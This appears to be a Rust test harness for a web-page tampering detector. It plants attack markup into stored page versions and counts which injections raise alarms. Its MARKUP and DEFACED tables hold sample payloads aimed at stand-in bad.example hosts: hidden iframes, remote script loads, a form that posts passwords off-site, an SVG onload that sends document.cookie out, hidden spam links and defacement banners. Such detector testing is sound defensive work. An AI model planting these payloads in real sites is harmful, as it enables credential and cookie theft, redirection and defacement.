//! Attacks written into real pages: into the state right after registration, and mixed into an ordinary update.

use crate::catalogue::{FAMILIES, Seed};
use crate::places::{PLACES, Place, after_tag, find, put};
use crate::tally::Tally;
use hinomi::app::backtest::History;
use hinomi::app::{bytes, compare_bytes, in_order};
use hinomi::model::{NoSignatures, Verdict};
use std::collections::BTreeMap;

/// What came of the attacks, by class, by place and by occasion.
#[derive(Debug, Default)]
pub(crate) struct Attacks {
    pub(crate) pages: usize,
    pub(crate) classes: BTreeMap<String, Tally>,
    pub(crate) places: BTreeMap<String, Tally>,
    pub(crate) occasions: BTreeMap<&'static str, Tally>,
    /// Class, place, occasion and page of those that did not alarm.
    pub(crate) missed: Vec<String>,
}

/// Markup of classes that no family of scripts covers, with `{n}` for a number.
const MARKUP: [(&str, &str); 13] = [
    (
        "hidden-frame",
        "<iframe src=\"http://gate{n}.bad.example/in.php\" width=1 height=1 style=\"visibility:hidden\"></iframe>",
    ),
    (
        "frame-moved-away",
        "<div style=\"position:absolute;left:-9{n}9px\"><iframe src=\"//x{n}.bad.example/\"></iframe></div>",
    ),
    ("foreign-script", "<script src=\"https://cdn{n}.bad.example/jquery.min.js\"></script>"),
    ("own-program", "<script src=\"/images/cache{n}.php\"></script>"),
    ("off-site-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://shop{n}.bad.example/\">"),
    ("base", "<base href=\"http://mirror{n}.bad.example/\">"),
    (
        "form-target",
        "<form action=\"https://login{n}.bad.example/post\" method=post><input type=password name=p></form>",
    ),
    (
        "event-handler",
        "<img src=x onerror=\"var s=document.createElement('script');s.src='//e{n}.bad.example/a.js';document.body.appendChild(s)\">",
    ),
    ("location", "<script>window.location.href='http://land{n}.bad.example/?k={n}'</script>"),
    ("svg-onload", "<svg onload=\"fetch('//s{n}.bad.example/c?'+document.cookie)\"></svg>"),
    ("data-frame", "<iframe src=\"data:text/html,<script src=//d{n}.bad.example/x.js></script>\"></iframe>"),
    ("script-in-title", "<title><script src=\"http://t{n}.bad.example/u.js\"></script></title>"),
    (
        "hidden-links",
        "<div style=\"display:none\"><a href=\"http://casino{n}.bad.example/\">オンラインカジノ おすすめ</a> <a href=\"http://slot{n}.bad.example/\">スロット 入金不要ボーナス</a> <a href=\"http://bet{n}.bad.example/\">ブックメーカー</a> <a href=\"http://copy{n}.bad.example/\">スーパーコピー 通販</a></div>",
    ),
];

/// What visible defacements leave.
const DEFACED: [&str; 3] = [
    "<h1>HACKED BY EXAMPLE CREW</h1><p>Your security is low. Greetz to all our friends.</p><img src=\"http://img.bad.example/skull.gif\">",
    "<center><font size=7 color=red>0wn3d by Team {n}</font><br>we are watching you</center>",
    "<h1>このサイトはハッキングされました</h1><p>Hacked by team{n}</p>",
];

/// One attack: what it is called, where it stands, and the page with it.
struct Attack {
    class: String,
    place: String,
    page: Vec<u8>,
}

/// Writes every class at every place into every page, and counts what is said.
pub(crate) fn measure(histories: &[History], seed: u64, tell: bool) -> anyhow::Result<Attacks> {
    let mut all = Attacks::default();
    let mut failed = None;
    let numbered: Vec<(usize, &History)> = histories.iter().enumerate().collect();
    in_order(
        &numbered,
        |(at, history)| of_page(history, seed ^ (*at as u64) << 8),
        |found| match found {
            Ok(found) => {
                if tell {
                    found.missed.iter().for_each(|line| println!("{line}"));
                }
                all.add(found);
                eprint!("\rpages attacked {}/{}", all.pages, numbered.len());
                true
            }
            Err(error) => {
                failed = Some(error);
                false
            }
        },
    );
    eprintln!();
    failed.map_or(Ok(all), Err)
}

fn of_page(history: &History, seed: u64) -> anyhow::Result<Attacks> {
    let mut found = Attacks { pages: 1, ..Attacks::default() };
    let Some(first) = history.versions.first() else { return Ok(found) };
    let first = bytes(&first.path)?;
    found.occasion("after registration", &first, &first, &history.page, seed);
    if let [.., approved, now] = history.versions.as_slice() {
        let (approved, now) = (bytes(&approved.path)?, bytes(&now.path)?);
        found.occasion("with an ordinary update", &approved, &now, &history.page, seed ^ 0x55);
    }
    Ok(found)
}

impl Attacks {
    fn occasion(&mut self, occasion: &'static str, approved: &[u8], now: &[u8], page: &str, seed: u64) {
        for attack in attacks(now, seed) {
            let verdict = compare_bytes((approved, "old.html"), (&attack.page, "new.html"), &NoSignatures);
            let verdict = verdict.judgement.verdict;
            self.classes.entry(attack.class.clone()).or_default().count(verdict);
            self.places.entry(attack.place.clone()).or_default().count(verdict);
            self.occasions.entry(occasion).or_default().count(verdict);
            if verdict != Verdict::Alarm {
                self.missed.push(format!(
                    "{}\t{}\t{occasion}\t{}\t{page}",
                    verdict.as_str(),
                    attack.class,
                    attack.place
                ));
            }
        }
    }

    fn add(&mut self, other: Self) {
        self.pages += other.pages;
        for (class, tally) in other.classes {
            self.classes.entry(class).or_default().add(tally);
        }
        for (place, tally) in other.places {
            self.places.entry(place).or_default().add(tally);
        }
        for (occasion, tally) in other.occasions {
            self.occasions.entry(occasion).or_default().add(tally);
        }
        self.missed.extend(other.missed);
    }
}

fn attacks(page: &[u8], seed: u64) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (at, family) in FAMILIES.iter().enumerate() {
        let text = (family.make)(&mut Seed::new(seed.wrapping_add(at as u64)));
        let snippet = if family.markup { text.clone() } else { format!("<script>{text}</script>") };
        everywhere(page, &format!("family {}", family.name), &snippet, &mut attacks);
        if !family.markup {
            one(page, &format!("family {}", family.name), Place::ScriptEnd, &format!(";{text}"), &mut attacks);
        }
    }
    for (class, markup) in MARKUP {
        everywhere(page, class, &markup.replace("{n}", &(seed % 97).to_string()), &mut attacks);
    }
    let left = DEFACED[seed as usize % DEFACED.len()].replace("{n}", &(seed % 97).to_string());
    let whole = format!("<html><head><title>Hacked</title></head><body bgcolor=black>{left}</body></html>");
    attacks.push(Attack { class: "page replaced".into(), place: "whole page".into(), page: whole.into_bytes() });
    attacks.extend(body_replaced(page, &left).map(|page| visible("body replaced", "body", page)));
    one(page, "defacement on top", Place::BodyStart, &left, &mut attacks);
    attacks.extend(pictures_replaced(page).map(|page| visible("pictures replaced", "pictures", page)));
    attacks
}

fn visible(class: &str, place: &str, page: Vec<u8>) -> Attack {
    Attack { class: class.into(), place: place.into(), page }
}

fn everywhere(page: &[u8], class: &str, snippet: &str, attacks: &mut Vec<Attack>) {
    for place in PLACES {
        one(page, class, place, snippet, attacks);
    }
}

fn one(page: &[u8], class: &str, place: Place, snippet: &str, attacks: &mut Vec<Attack>) {
    let page = put(page, place, snippet);
    attacks.extend(page.map(|page| Attack { class: class.into(), place: format!("{place:?}"), page }));
}

/// The head as it was, with another body.
fn body_replaced(page: &[u8], left: &str) -> Option<Vec<u8>> {
    let body = after_tag(page, "<body")?;
    Some([page.get(..body)?, left.as_bytes(), b"</body></html>"].concat())
}

/// Every picture of the body is another one, from elsewhere; none where there are fewer than two.
fn pictures_replaced(page: &[u8]) -> Option<Vec<u8>> {
    let mut replaced = Vec::with_capacity(page.len());
    let (mut from, mut count) = (0, 0);
    while let Some(at) = find(page, from, "<img") {
        let end = find(page, at, ">")? + 1;
        replaced.extend_from_slice(page.get(from..at)?);
        replaced.extend_from_slice(b"<img src=\"http://img.bad.example/hacked.jpg\">");
        (from, count) = (end, count + 1);
    }
    replaced.extend_from_slice(page.get(from..)?);
    (count > 1).then_some(replaced)
}
